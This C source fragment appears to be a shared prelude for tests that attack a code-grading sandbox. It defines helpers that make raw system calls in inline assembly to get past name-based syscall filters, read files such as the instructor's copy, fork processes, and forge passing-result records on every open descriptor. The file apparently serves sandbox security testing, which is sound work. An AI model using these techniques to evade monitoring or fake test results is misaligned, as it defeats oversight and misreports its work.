/* Put before each attack: calls of the system that no list of names sees.
 * AT_ROOT, AT_OUT, AT_CLASS and AT_PORT are the test's: the instructor's
 * clone, the results, the submissions, a port that listens. */
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>

#define RAW __attribute__((unused)) static

#if defined(__x86_64__)
RAW long raw(long n, long a, long b, long c, long d)
{
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}
#else
RAW long raw(long n, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = n;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0"
                     : "+r"(x0)
                     : "r"(x8), "r"(x1), "r"(x2), "r"(x3)
                     : "memory");
    return x0;
}
#endif

RAW long raw_open(const char *path, int flags)
{
    return raw(SYS_openat, AT_FDCWD, (long)path, flags, 0666);
}

RAW long raw_fork(void)
{
    return raw(SYS_clone, SIGCHLD, 0, 0, 0);
}

RAW void raw_say(const char *text)
{
    raw(SYS_write, 1, (long)text, (long)strlen(text), 0);
}

/* Print what a file holds, if it can be read. */
RAW void raw_show(const char *path)
{
    static char text[4096];
    long fd = raw_open(path, O_RDONLY);
    if (fd < 0)
        return;
    raw_say("READ ");
    raw_say(path);
    long n = raw(SYS_read, fd, (long)text, sizeof text, 0);
    if (n > 0)
        raw(SYS_write, 1, (long)text, n, 0);
    raw(SYS_close, fd, 0, 0, 0);
}

/* The facts of a pass, on every descriptor. */
RAW void raw_forge(const char *end)
{
    char text[200];
    int n = snprintf(text, sizeof text,
                     "{\"n\": \"sum\", \"k\": \"int\", \"v\": 99}\n"
                     "{\"n\": \"sum\", \"k\": \"int\", \"v\": 0}\n"
                     "{\"end\": \"%s\"}\n",
                     end);
    for (long fd = 1; fd < 64; fd++)
        raw(SYS_write, fd, (long)text, n, 0);
}
